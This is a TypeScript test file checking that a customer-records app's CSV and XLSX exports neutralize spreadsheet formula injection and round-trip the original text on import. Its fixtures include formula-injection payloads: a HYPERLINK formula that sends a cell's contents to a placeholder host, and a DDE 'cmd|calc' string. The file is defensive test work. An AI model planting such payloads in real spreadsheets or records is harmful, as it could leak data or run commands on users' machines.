import fc from 'fast-check'
import JSZip from 'jszip'
import Papa from 'papaparse'
import { beforeAll, describe, expect, it } from 'vitest'
import { FORMULA_START, unquoteFormula } from '../../functions/domain/imports/csv-formulas.js'
import { useStack } from '../helpers/stack.js'
import { download, listAll, upload } from './files.js'

/**
 * CSV formula injection (OWASP): text a member typed must reach the manager's spreadsheet as text, and
 * the export must import back to that very text.
 */
const t = useStack()
let sales1: string

const NAME = '=HYPERLINK("http://x.example/?"&A1,"click")'
const REMARK = '+cmd|calc!A1'
const INDUSTRY = '@SUM(1+1)'

beforeAll(async () => {
  sales1 = await t.login('sales1')
  const { status } = await t.http('POST', '/api/customers', {
    token: sales1,
    body: { name: NAME, remark: REMARK, industry: INDUSTRY },
  })
  expect(status).toBe(201)
})

const csvRows = (bytes: Buffer) =>
  Papa.parse<string[]>(bytes.subarray(3).toString('utf8'), { skipEmptyLines: true }).data

/** The export's columns by header (客户名称, 备注...) for the row whose 客户名称 ends with `name`. */
const rowOf = (rows: string[][], name: string) => {
  const row = rows.find((r) => r[0].endsWith(name))
  expect(row, name).toBeDefined()
  return Object.fromEntries(rows[0].map((header, i) => [header, row![i]]))
}

/** Imports a file as new records and answers the one created from the row named `name`. */
async function importedCopy(file: Buffer, fileName: string, name: string) {
  const before = new Set((await listAll(t, sales1, '/api/customers')).map((c) => c.id))
  const { json } = await upload(t, sales1, 'customers', file, { policy: 'create' }, fileName)
  expect(json).toMatchObject({ status: 'done', failed: 0 })
  const created = (await listAll(t, sales1, '/api/customers')).filter((c) => !before.has(c.id))
  return created.find((c) => c.name === name)
}

describe('CSV export', () => {
  it('writes each cell Excel would run as a formula after a single quote', async () => {
    const { bytes } = await download(t, sales1, '/api/exports/customers?format=csv')
    const row = rowOf(csvRows(bytes), NAME)
    expect(row).toMatchObject({ 客户名称: `'${NAME}`, 备注: `'${REMARK}`, 行业: `'${INDUSTRY}` })
  })

  it('imports back to the very text it neutralized', async () => {
    const { bytes } = await download(t, sales1, '/api/exports/customers?format=csv')
    expect(rowOf(csvRows(bytes), NAME).客户名称).toBe(`'${NAME}`)
    const copy = await importedCopy(bytes, 'customers.csv', NAME)
    expect(copy).toMatchObject({ name: NAME, remark: REMARK, industry: INDUSTRY })
  })

  it('keeps a quote the user typed: one more before a formula character, none elsewhere or on a number', async () => {
    const name = "'=用户自己加的引号"
    await t.http('POST', '/api/customers', {
      token: sales1,
      body: { name, industry: "'普通文本", address: '-100' },
    })
    const { bytes } = await download(t, sales1, '/api/exports/customers?format=csv')
    expect(rowOf(csvRows(bytes), name.slice(1))).toMatchObject({
      客户名称: `'${name}`,
      行业: "'普通文本",
      地址: '-100',
    })
    const copy = await importedCopy(bytes, 'customers.csv', name)
    expect(copy).toMatchObject({ name, industry: "'普通文本", address: '-100' })
  })

  it('takes off exactly the quote it adds, for any text', () => {
    const text = fc.string({
      unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '1', '.', 'a', ',', '"'),
    })
    fc.assert(
      fc.property(text, (cell) => {
        const written = Papa.unparse([[cell, 'x']], { escapeFormulae: FORMULA_START })
        const [read] = Papa.parse<string[]>(written, { delimiter: ',' }).data
        expect(unquoteFormula(read[0])).toBe(cell)
      }),
      { numRuns: 2000 },
    )
  })
})

describe('XLSX export', () => {
  it('stores formula-like text as inline string cells, never as formulas, and imports it back', async () => {
    const { bytes } = await download(t, sales1, '/api/exports/customers?format=xlsx')
    const zip = await JSZip.loadAsync(bytes)
    const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string')
    expect(sheet).not.toContain('<f>')
    const escaped = (text: string) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;')
    for (const text of [NAME, REMARK, INDUSTRY]) {
      expect(sheet).toMatch(new RegExp(`t="inlineStr"><is><r><t>${escape(escaped(text))}</t>`))
    }
    const copy = await importedCopy(bytes, 'customers.xlsx', NAME)
    expect(copy).toMatchObject({ name: NAME, remark: REMARK, industry: INDUSTRY })
  })
})

const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')
